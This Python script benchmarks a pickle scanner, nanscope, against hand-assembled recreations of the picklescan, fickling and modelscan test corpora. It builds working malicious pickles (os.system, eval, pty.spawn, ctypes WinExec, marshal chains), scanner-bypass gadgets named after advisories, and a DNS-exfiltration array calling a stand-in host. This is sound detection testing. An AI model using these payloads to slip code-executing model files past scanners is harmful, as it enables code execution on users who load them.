#!/usr/bin/env python3
"""Runs nanscope over the public pickle-scanner corpora and records the verdicts.

The corpora of picklescan (tests/data), fickling (the pickles its tests build)
and modelscan (its test fixtures) are not committed here. By default the cases
they contain are recreated by this script's own code: each case is named after
the peer's, calls the same callable (or is the same benign object) and is
written with the same protocol, but every byte is produced here, mostly by
hand-assembled opcodes, so nothing is imported or run. With `--checkout
NAME=PATH` a local checkout of a peer is scanned as well (its files labelled
by name: `malicious*`, `GHSA-*`, `*exploit*`, `*sploit*`, `unsafe*`, `*bypass*` and the named payloads (`broken_model`, `*FileHandler*`, `*FileIO*`, `*urlopen*`, `*CodeType*`) dangerous; `benign*`,
`safe*`, `int_array*`, `object_array*`, `pytorch_model*` safe; others unlabelled).

A dangerous file counts as flagged when nanscope exits 1 with an error
finding; a safe file is a false alarm when it gets any S-error.

Usage:
  python3 bench/pickle_corpora.py [--nanscope target/debug/nanscope]
      [--checkout picklescan=~/src/picklescan/tests/data] [--report reports/pickle-corpora.md]
"""

import argparse
import collections
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import tempfile
import zipfile

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

# ---------------------------------------------------------------------------
# A tiny pickle assembler: enough opcodes to spell the corpora's payloads.


def proto(p):
    return b"\x80" + bytes([p]) if p >= 2 else b""


def text(s, p):
    data = s.encode()
    if p == 0:
        return b"V" + s.encode("raw_unicode_escape").replace(b"\\", b"\\u005c").replace(b"\n", b"\\u000a") + b"\n"
    if p < 3:
        return b"X" + struct.pack("<I", len(data)) + data
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def integer(v, p):
    return b"I%d\n" % v if p == 0 else b"J" + struct.pack("<i", v)


def value(v, p):
    if isinstance(v, str):
        return text(v, p)
    if isinstance(v, bool):
        return b"I0%d\n" % v if p < 2 else (b"\x88" if v else b"\x89")
    if isinstance(v, int):
        return integer(v, p)
    if v is None:
        return b"N"
    if isinstance(v, tuple):
        return b"(" + b"".join(value(x, p) for x in v) + b"t"
    if isinstance(v, list):
        return b"(" + b"".join(value(x, p) for x in v) + b"l"
    if isinstance(v, dict):
        return b"(" + b"".join(value(k, p) + value(x, p) for k, x in v.items()) + b"d"
    if isinstance(v, bytes):
        # Protocols 0-2 have no bytes opcode; these payloads only need text.
        return text(v.decode("latin1"), p) if p < 3 else b"C" + bytes([len(v)]) + v
    if isinstance(v, Call):
        return v.encode(p)
    raise TypeError(v)


def global_ref(module, name, p):
    if p >= 4:
        return text(module, p) + text(name, p) + b"\x93"
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


class Call:
    """`module.name(*args)`, spelled with GLOBAL/STACK_GLOBAL and REDUCE."""

    def __init__(self, module, name, *args):
        self.module, self.name, self.args = module, name, args

    def encode(self, p):
        return global_ref(self.module, self.name, p) + value(tuple(self.args), p) + b"R"


def dump(obj, p):
    return proto(p) + value(obj, p) + b"."


def builtins(p):
    return "__builtin__" if p < 3 else "builtins"


PAYLOAD = "__import__('os').system('touch nanscope_pickle_ran')"

# ---------------------------------------------------------------------------
# The corpora. Each case: (name, label, bytes); label is dangerous or safe.


def picklescan():
    cases = []
    for p in (0, 3, 4):
        cases.append((f"benign0_v{p}.pkl", "safe", pickle.dumps(["a", "b", "c"], protocol=p)))
        cases.append((f"malicious1_v{p}.pkl", "dangerous", dump(Call(builtins(p), "eval", "print('456')"), p)))
        cases.append((f"malicious2_v{p}.pkl", "dangerous", dump(Call("posix", "system", "ls -la"), p)))
    # The "sour pickles" chain: globals, compile, eval, getattr, apply in protocol 0 text.
    sour = (
        b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'x=1'\nS''\nS'exec'\ntRp101\n0"
        b"c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0"
        b"c__builtin__\napply\n(g103\n(g100\nS'x'\nltRp104\n0g104\n."
    )
    cases.append(("malicious0.pkl", "dangerous", sour))
    cases.append(("malicious10.pkl", "dangerous", b"(S'raise RuntimeError(\"x\")'\ni__builtin__\nexec\n."))
    # STACK_GLOBAL fed from memo entries that a text scanner reads as torch.LongStorage.
    memo_swap = (
        b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vcat flag.txt\ntR."
    )
    cases.append(("malicious11.pkl", "dangerous", memo_swap))
    cases.append(("malicious-invalid-bytes.pkl", "dangerous", memo_swap + b"\n\n\t\t"))
    cases.append(("malicious3.pkl", "dangerous", dump(Call("http.client", "HTTPSConnection", "github.com"), 0)))
    cases.append(("malicious4.pickle", "dangerous", dump(Call("requests.api", "get", "https://github.com"), 4)))
    cases.append(("malicious5.pickle", "dangerous", dump(Call("aiohttp.client", "ClientSession"), 4)))
    six = pickle.dumps(["a", "b", "c"]) + dump(Call("requests.api", "get", "https://github.com"), 4)
    cases.append(("malicious6.pkl", "dangerous", six))
    cases.append(("malicious7.pkl", "dangerous", dump(Call("socket", "create_connection", ("github.com", 80)), 4)))
    cases.append(("malicious8.pkl", "dangerous", dump(Call("subprocess", "run", ["ls", "-l"]), 4)))
    cases.append(("malicious9.pkl", "dangerous", dump(Call("sys", "exit", 0), 4)))
    cases.append(("malicious13a.pkl", "dangerous", dump(Call("pickle", "loads", b"I12345\n."), 0)))
    cases.append(("malicious13b.pkl", "dangerous", dump(Call("_pickle", "loads", b"I12345\n."), 4)))
    cases.append(("malicious14.pkl", "dangerous", dump(Call("runpy", "_run_code", "print('456')"), 4)))
    cases.append(("malicious15a.pkl", "dangerous", dump(Call("bdb", "Bdb.run", None, "import os"), 2)))
    cases.append(("malicious15b.pkl", "dangerous", dump(Call("bdb", "Bdb.run", None, "import os"), 4)))
    cases.append(("malicious16.pkl", "dangerous", dump(Call("pip", "main", ["install", "x"]), 0)))
    cases.append(("malicious17.pkl", "dangerous", dump(Call("torch._inductor.codecache", "compile_file", "", "", ["sh"]), 4)))
    cases.append(("malicious18.pkl", "dangerous", dump(Call("pydoc", "pipepager", "", "echo pwned"), 4)))
    cases.append(("malicious19.pkl", "dangerous", dump(Call("functools", "partial", Call("torch", "load", "m.bin")), 4)))
    cases.append(("malicious20.pkl", "dangerous", dump(Call("venv", "create", "venv", False, False, True), 4)))
    cases.append(("malicious21.pkl", "dangerous", dump(Call("timeit", "timeit", "", "import os"), 4)))
    cases.append(("malicious22.pkl", "dangerous", dump(Call("numpy.testing._private.utils", "runstring", "x", {}), 4)))
    cases.append(("malicious23.pkl", "dangerous", b"S'os'\nS'system'\n\x93S'ls'\n\x85R."))
    cases.append(("broken_model.pkl", "dangerous", b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX."))
    keyerror = proto(4) + global_ref("os", "system", 2) + b"Vecho pwned\n\x85R0\x8c\x02os\x94h\x03h\x00\x93K\x42."
    cases.append(("keyerror-exploit.pkl", "dangerous", keyerror))
    confusion = proto(4) + global_ref("os", "system", 2) + b"Vecho x\n\x85R0J\x2a\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93K\x42."
    cases.append(("type-confusion-exploit.pkl", "dangerous", confusion))
    ghsa = [
        ("GHSA-4r9r-ch6f-vxmx", "torch.utils.bottleneck.__main__", "run_cprofile"),
        ("GHSA-86cj-95qr-2p4f", "torch._dynamo.guards", "GuardBuilder.get"),
        ("GHSA-f4x7-rfwp-v3xw", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
        ("GHSA-f745-w6jp-hpxx", "torch.utils.collect_env", "run"),
        ("GHSA-jhph-76pp-mggw", "torch.utils.collect_env", "run_and_read_all"),
        ("GHSA-h3qp-7fh3-f8h4", "torch.utils.data.datapipes.utils.decoder", "basichandlers"),
        ("GHSA-vr7h-p6mm-wpmh", "torch.jit.unsupported_tensor_ops", "execWrapper"),
        ("GHSA-vv6j-3g6g-2pvj", "torch.utils._config_module", "ConfigModule.load_config"),
        ("GHSA-5qwp-399c-mjwf", "trace", "Trace.run"),
        ("GHSA-g344-hcph-8vgg", "trace", "Trace.runctx"),
        ("GHSA-x696-vm39-cp64", "profile", "Profile.run"),
        ("GHSA-6vqj-c2q5-j97w", "profile", "Profile.runctx"),
        ("GHSA-f54q-57x4-jg88", "lib2to3.pgen2.grammar", "Grammar.loads"),
        ("GHSA-3vg9-h568-4w9m", "idlelib.debugobj", "ObjectTreeItem.SetText"),
        ("GHSA-6w4w-5w54-rjvr", "idlelib.autocomplete", "AutoComplete.get_entity"),
        ("GHSA-7cq8-mj8x-j263", "idlelib.autocomplete", "AutoComplete.fetch_completions"),
        ("GHSA-cj3c-v495-4xqh", "code", "InteractiveInterpreter.runcode"),
        ("GHSA-8r4j-24qv-fmq9", "idlelib.calltip", "Calltip.fetch_tip"),
        ("GHSA-9xph-j2h6-g47v", "idlelib.calltip", "get_entity"),
        ("GHSA-4whj-rm5r-c2v8", "torch.utils.bottleneck.__main__", "run_autograd_prof"),
        ("GHSA-xp4f-hrf8-rxw7", "ensurepip", "_run_pip"),
        ("GHSA-p9w7-82w4-7q8m", "lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
        ("GHSA-m869-42cg-3xwr", "idlelib.run", "Executive.runcode"),
        ("GHSA-j343-8v2j-ff7w", "idlelib.pyshell", "ModifiedInterpreter.runcommand"),
        ("GHSA-3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode"),
        ("GHSA-fqq6-7vqf-w3fg", "doctest", "debug_script"),
        ("GHSA-9w88-8rmg-7g2p", "cProfile", "runctx"),
        ("GHSA-49gj-c84q-6qm9", "cProfile", "run"),
        ("GHSA-q77w-mwjj-7mqx", "asyncio.unix_events", "_UnixSubprocessTransport._start"),
        ("GHSA-m273-6v24-x4m4", "distutils.file_util", "write_file"),
        ("GHSA-4675-36f9-wf6r", "ctypes", "CDLL"),
        ("GHSA-84r2-jw7c-4r5q", "operator", "methodcaller"),
        ("GHSA-vqmv-47xg-9wpr", "pty", "spawn"),
        ("GHSA-r8g5-cgf2-4m4m", "numpy.f2py.crackfortran", "getlincoef"),
        ("io_FileIO", "io", "FileIO"),
        ("urllib_request_urlopen", "urllib.request", "urlopen"),
    ]
    for name, module, attr in ghsa:
        cases.append((f"{name}.pkl", "dangerous", dump(Call(module, attr, PAYLOAD), 4)))
    cases.append(("GHSA-jgw4-cr84-mqxg.bin", "dangerous", dump(Call("asyncio.unix_events", "_UnixSubprocessTransport._start", "id"), 4)))
    evil4 = dump(Call("builtins", "eval", "print('456')"), 4)
    cases.append(("malicious1.zip", "dangerous", zipped("data.pkl", evil4)))
    cases.append(("malicious1_wrong_ext.zip", "dangerous", zipped("data.txt", evil4)))
    cases.append(("malicious1_central_directory.zip", "dangerous", zipped("data.pkl", evil4).replace(b"data.pkl", b"datap.kl", 1)))
    cases.append(("bad_pytorch.pt", "invalid", b"\x89PNG\r\n\x1a\n"))
    cases.append(("not_a_pickle.bin", "invalid", b"cmod\n\xf8\n"))
    cases.extend(numpy_cases())
    return cases


def zipped(name, data):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


def npy_bytes(array):
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, array, allow_pickle=True)
    return buf.getvalue()


def object_npy(pickled, shape="(1,)"):
    header = "{'descr': '|O', 'fortran_order': False, 'shape': %s, }" % shape
    header += " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pickled


def npz_bytes(members, compressed=False):
    buf = io.BytesIO()
    kind = zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED
    with zipfile.ZipFile(buf, "w", compression=kind) as z:
        for name, data in members.items():
            z.writestr(zipfile.ZipInfo(name + ".npy", date_time=(2024, 1, 1, 0, 0, 0)), data, compress_type=kind)
    return buf.getvalue()


def numpy_cases():
    import numpy as np

    objects = np.empty((2, 2), dtype=object)
    objects[:] = [(1, 2), (3, 4)]
    ints = np.array([[1, 2], [3, 4]], dtype="<i8")
    obj_a, obj_b = np.array([0, 1, 2], dtype=object), np.array([3, 4, 5], dtype=object)
    int_a, int_b = np.array([0, 1, 2], dtype="<i8"), np.array([3, 4, 5], dtype="<i8")
    # An object array whose single element reduces to ssl.get_server_certificate.
    dns = proto(4) + global_ref("numpy._core.multiarray", "_reconstruct", 4)
    dns += global_ref("numpy", "ndarray", 4) + b"K\x00\x85C\x01b\x87R"
    dns += b"(K\x01K\x01\x85" + global_ref("numpy", "dtype", 4) + text("O8", 4) + b"\x89\x88\x87R"
    dns += b"(K\x03" + text("|", 4) + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb\x89"
    dns += b"]" + Call("ssl", "get_server_certificate", ("x.dns-logger.invalid", 443)).encode(4) + b"a" + b"tb."
    return [
        ("object_array.npy", "safe", npy_bytes(objects)),
        ("int_array.npy", "safe", npy_bytes(ints)),
        ("object_arrays.npz", "safe", npz_bytes({"a": npy_bytes(obj_a), "b": npy_bytes(obj_b)})),
        ("int_arrays.npz", "safe", npz_bytes({"a": npy_bytes(int_a), "b": npy_bytes(int_b)})),
        ("object_arrays_compressed.npz", "safe", npz_bytes({"a": npy_bytes(obj_a), "b": npy_bytes(obj_b)}, True)),
        ("int_arrays_compressed.npz", "safe", npz_bytes({"a": npy_bytes(int_a), "b": npy_bytes(int_b)}, True)),
        ("dns_exfiltration.npy", "dangerous", object_npy(dns)),
    ]


def frame(n):
    return b"\x95" + struct.pack("<Q", n)


def fickling():
    cases = []
    su = lambda s: text(s, 4)  # noqa: E731
    pty = b"\x80\x04" + frame(26) + su("pty") + b"\x94" + su("spawn") + b"\x94\x93\x94" + su("id") + b"\x94\x85\x94R\x94"
    cases.append(("bypass_pty_frame.pkl", "dangerous", pty + su("gottem") + b"\x94b."))
    cases.append(("bypass_pty_obj.pkl", "dangerous", b"(cpty\nspawn\nS'id'\no."))
    marshal_chain = b"\x80\x04" + frame(0) + su("marshal") + su("loads") + b"\x93\x94h\x00C\x04\xe3\x00\x00\x00\x85R\x94"
    marshal_chain += su("types") + su("FunctionType") + b"\x93\x94h\x02h\x01}\x86R\x94h\x03)R\x94" + su("gottem") + b"b."
    cases.append(("bypass_marshal_types.pkl", "dangerous", marshal_chain))
    cases.append(("bypass_runpy.pkl", "dangerous", b"\x80\x05" + frame(46) + su("runpy") + b"\x94" + su("run_path") + b"\x94\x93\x94" + su("/tmp/malicious.py") + b"\x94\x85\x94R\x94."))
    cases.append(("bypass_cprofile.pkl", "dangerous", b"\x80\x05" + frame(58) + su("cProfile") + b"\x94" + su("run") + b"\x94\x93\x94" + su("print('CPROFILE_RCE_CONFIRMED')") + b"\x94\x85\x94R\x94."))

    def getattr_chain(module, attr, arg, method, call_arg):
        body = b"\x80\x05" + su("builtins") + su("getattr") + b"\x93\x94" + su(module) + su(attr) + b"\x93\x94"
        body += (value(arg, 4) + b"\x85" if arg is not None else b")") + b"R\x94" + su(method) + b"\x86R\x94"
        return body + value(call_arg, 4) + b"\x85R\x94."

    cases.append(("bypass_ctypes.pkl", "dangerous", getattr_chain("ctypes", "CDLL", "libc.dylib", "system", b"id")))
    cases.append(("bypass_importlib.pkl", "dangerous", getattr_chain("importlib", "import_module", "os", "system", "id")))
    cases.append(("bypass_code.pkl", "dangerous", getattr_chain("code", "InteractiveInterpreter", None, "runsource", "import os")))
    pydoc = b"cpydoc\nlocate\nS'ctypes.windll.kernel32.WinExec'\n\x85Rp0\n0g0\nC\x08calc.exeK\x01\x86Rp1\n0"
    pydoc += b"cbuiltins\nException\n)Rp2\n}S'rce_status'\ng1\nsb."
    cases.append(("bypass_pydoc.pkl", "dangerous", pydoc))
    mp = b"\x80\x05" + frame(74) + su("multiprocessing.util") + b"\x94" + su("spawnv_passfds") + b"\x94\x93\x94"
    mp += b"C\x07/bin/sh\x94]\x94(h\x03C\x02-c\x94C\x02id\x94e)\x87\x94R\x94."
    cases.append(("bypass_multiprocessing.pkl", "dangerous", mp))
    cases.append(("builtins_exec.pkl", "dangerous", dump(Call("builtins", "exec", PAYLOAD), 4)))
    cases.append(("nested_eval_in_dict.pkl", "dangerous", dump({"model": Call("builtins", "eval", PAYLOAD)}, 2)))
    # Benign edge cases: plain data in every protocol, sets, bytes, big ints, OrderedDict.
    for p in range(6):
        data = {"a": [1, 2.5, None, True], "b": ("x", b"yz"), "c": {1, 2}, "d": frozenset([3]), "e": 2**80}
        cases.append((f"benign_data_p{p}.pkl", "safe", pickle.dumps(data, protocol=p)))
    cases.append(("benign_ordereddict.pkl", "safe", pickle.dumps(collections.OrderedDict(a=1), protocol=2)))
    cases.append(("benign_empty.pkl", "safe", pickle.dumps(None, protocol=4)))
    return cases


def modelscan():
    cases = []
    for p in (0, 3, 4):
        benign = pickle.dumps(["a", "b", "c"], protocol=p)
        eval1 = dump(Call(builtins(p), "eval", "print('456')"), p)
        system2 = dump(Call("posix", "system", "ls -la"), p)
        for ext in ("pkl", "dill", "joblib"):
            cases.append((f"benign0_v{p}.{ext}", "safe", benign))
            cases.append((f"malicious1_v{p}.{ext}", "dangerous", eval1))
            cases.append((f"malicious2_v{p}.{ext}", "dangerous", system2))
    # Object arrays whose elements reduce to eval / os.system, as np.save writes them.
    for name, call in [("malicious1.npy", Call("builtins", "eval", "print('456')")), ("malicious2.npy", Call("posix", "system", "ls"))]:
        cases.append((name, "dangerous", object_npy(dump(call, 4), shape="()")))
    cases.append(("benign.npy", "safe", npy_bytes(__import__("numpy").arange(6, dtype="<f4"))))
    cases.extend(torch_cases())
    return cases


def torch_cases():
    try:
        import torch
    except ImportError:
        return []
    sd = collections.OrderedDict(
        [("linear.weight", torch.arange(6, dtype=torch.float32).reshape(2, 3)), ("linear.bias", torch.zeros(2))]
    )
    out = []
    for name, zipped_format in [("safe_zip_pytorch.pt", True), ("safe_old_format_pytorch.pt", False)]:
        buf = io.BytesIO()
        torch.save(sd, buf, _use_new_zipfile_serialization=zipped_format)
        out.append((name, "safe", buf.getvalue()))
    # The safe zip with an eval spliced into its data.pkl (same layout as the peer's unsafe file).
    buf = io.BytesIO()
    torch.save(sd, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    dst = io.BytesIO()
    with zipfile.ZipFile(dst, "w") as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith("data.pkl"):
                assert data.endswith(b"u.")
                data = data[:-2] + text("payload", 2) + Call("builtins", "exec", PAYLOAD).encode(2) + b"u."
            z.writestr(zipfile.ZipInfo(info.filename, date_time=(2024, 1, 1, 0, 0, 0)), data)
    out.append(("unsafe_zip_pytorch.pt", "dangerous", dst.getvalue()))
    return out


# ---------------------------------------------------------------------------


def label_by_name(name):
    low = name.lower()
    dangerous = ("malicious", "ghsa-", "exploit", "sploit", "unsafe", "injection", "exfiltration", "bypass")
    dangerous += ("broken_model", "filehandler", "fileio", "urlopen", "codetype")
    if any(k in low for k in dangerous):
        return "dangerous"
    if any(k in low for k in ("benign", "safe", "int_array", "object_array", "pytorch_model")):
        return "safe"
    return "unlabelled"


def run(nanscope, path):
    proc = subprocess.run(
        [nanscope, "weights", "--format", "json", "--no-progress", path],
        capture_output=True,
        cwd=tempfile.gettempdir(),
    )
    try:
        report = json.loads(proc.stdout)
    except json.JSONDecodeError:
        return proc.returncode, []
    return proc.returncode, report.get("findings", [])


def judge(nanscope, corpus, files):
    rows = []
    for name, label, path in files:
        code, findings = run(nanscope, path)
        errors = sorted({f["code"] for f in findings if f["severity"] == "error"})
        s_errors = [c for c in errors if c.startswith("S")]
        if label == "dangerous":
            verdict = "flagged" if code == 1 and errors else "MISSED"
        elif label == "safe":
            verdict = "FALSE ALARM" if s_errors else "clean"
        else:
            verdict = "error" if code == 1 else "pass"
        rows.append((corpus, name, label, code, ",".join(errors) or "-", verdict))
    return rows


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--nanscope", default=os.path.join(ROOT, "target", "release", "nanscope"))
    ap.add_argument("--checkout", action="append", default=[], help="NAME=PATH of a peer's local data folder")
    ap.add_argument("--report", default=os.path.join(ROOT, "reports", "pickle-corpora.md"))
    args = ap.parse_args()
    if not os.path.exists(args.nanscope):
        args.nanscope = os.path.join(ROOT, "target", "debug", "nanscope")
    rows = []
    with tempfile.TemporaryDirectory() as tmp:
        for corpus, make in [("picklescan", picklescan), ("fickling", fickling), ("modelscan", modelscan)]:
            files = []
            for name, label, data in make():
                path = os.path.join(tmp, corpus, name)
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "wb") as f:
                    f.write(data)
                files.append((name, label, path))
            rows += judge(args.nanscope, f"{corpus} (recreated)", files)
    for spec in args.checkout:
        corpus, path = spec.split("=", 1)
        files = []
        for dirpath, _, names in os.walk(os.path.expanduser(path)):
            for name in sorted(names):
                files.append((name, label_by_name(name), os.path.join(dirpath, name)))
        rows += judge(args.nanscope, f"{corpus} (checkout)", files)
    write_report(args.report, rows, args.checkout)
    missed = [r for r in rows if r[5] in ("MISSED", "FALSE ALARM")]
    for r in missed:
        print(*r, sep="\t")
    print(f"wrote {args.report}: {len(rows)} files, {len(missed)} missed or false alarms")


def write_report(path, rows, checkouts):
    by = collections.OrderedDict()
    for r in rows:
        by.setdefault(r[0], []).append(r)
    lines = [
        "# nanscope over the pickle-scanner corpora",
        "",
        "Made by `python3 bench/pickle_corpora.py` (see its docstring): the cases of picklescan's",
        "`tests/data`, the pickles fickling's tests build and modelscan's test fixtures, recreated by",
        "our own code (same callables, protocols and layouts; nothing is imported or run). A dangerous",
        "file is *flagged* when `nanscope weights` exits 1 with an error finding; a safe file is a",
        "*false alarm* when it gets an S-error. `invalid` files are not pickles (a PNG named `.pt`,",
        "a truncated GLOBAL); they are expected to be errors too.",
        "",
        *[f"Checkout scanned as it is: `{spec.split('=', 1)[0]}` (its test data folders; files labelled by name)." for spec in checkouts],
        "",
        "| corpus | files | dangerous | flagged | flagged by an S rule | missed | safe | false alarms | invalid (error) |",
        "|---|---:|---:|---:|---:|---:|---:|---:|---:|",
    ]
    for corpus, rs in by.items():
        dangerous = [r for r in rs if r[2] == "dangerous"]
        safe = [r for r in rs if r[2] == "safe"]
        invalid = [r for r in rs if r[2] not in ("dangerous", "safe")]
        lines.append(
            f"| {corpus} | {len(rs)} | {len(dangerous)} | {sum(r[5] == 'flagged' for r in dangerous)} | "
            f"{sum(r[5] == 'flagged' and 'S' in r[4] for r in dangerous)} | "
            f"{sum(r[5] == 'MISSED' for r in dangerous)} | {len(safe)} | "
            f"{sum(r[5] == 'FALSE ALARM' for r in safe)} | {len(invalid)} ({sum(r[5] == 'error' for r in invalid)}) |"
        )
    only_format = [r for r in rows if r[2] == "dangerous" and r[5] == "flagged" and "S" not in r[4]]
    if only_format:
        lines += ["", "Dangerous files flagged by a format error only (the pickle inside is never reached):", ""]
        lines += [f"- {r[0]}: `{r[1]}` ({r[4]})" for r in only_format]
    lines += ["", "## Every file", "", "| corpus | file | label | exit | error codes | verdict |", "|---|---|---|---:|---|---|"]
    for r in rows:
        lines.append("| " + " | ".join(str(x) for x in r) + " |")
    with open(path, "w") as f:
        f.write("\n".join(lines) + "\n")


if __name__ == "__main__":
    sys.exit(main())
